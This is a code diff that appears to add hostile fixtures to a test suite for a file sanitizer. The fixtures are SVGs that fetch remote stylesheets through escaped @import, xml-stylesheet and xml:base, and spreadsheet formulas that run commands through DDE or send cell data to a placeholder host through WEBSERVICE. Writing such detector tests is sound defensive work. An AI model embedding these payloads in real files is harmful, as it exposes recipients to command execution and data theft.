@@ -190,6 +190,9 @@ _DRAWINGS = {
     "fetched": '<svg><image href="https://example.nl/x.png"/></svg>',
     "style": "<svg><style>@import 'https://example.nl/x.css';</style></svg>",
     "style-in-two": "<svg><style>@import 'https://example.nl/x.css';<style/></style></svg>",
+    "style-in-escapes": "<svg><style>@\\69mport 'https://example.nl/x.css';</style></svg>",
+    "style-from-elsewhere": "<?xml-stylesheet href='https://example.nl/x.css'?><svg/>",
+    "base": "<svg xml:base='https://example.nl/'/>",
     "entities": f"<!DOCTYPE svg SYSTEM 'https://example.nl/x.dtd'>{_LOGO}",
 }
 _RELATED = {
@@ -275,6 +278,7 @@ BAD: Mapping[str, tuple[bytes, str]] = {
     "service.xlsx": (_xlsx('<f>_xlfn.WEBSERVICE("https://example.nl/"&amp;A2)</f>'), "active"),
     "picture.xlsx": (_xlsx("<f>'\"'!A1&amp;_xlfn.IMAGE(A1)&amp;'\"'!A1</f>"), "active"),
     "dde-in-two.xlsx": (_xlsx("<formula1>cmd|'/c <m:f xmlns:m='http://x'/>calc'!A0</formula1>"), "active"),
+    "dde-between-columns.xlsx": (_xlsx("<f>T['[]+cmd|'/c calc'!A0+T['[]</f>"), "active"),
     "dde.xlsx": (_xlsx("<f>cmd|'/c calc'!A0</f>"), "active"),
     "program.pptx": (
         _docx("", {"ppt/slides/slide1.xml": '<hlinkMouseOver action="ppaction://program"/>'}),
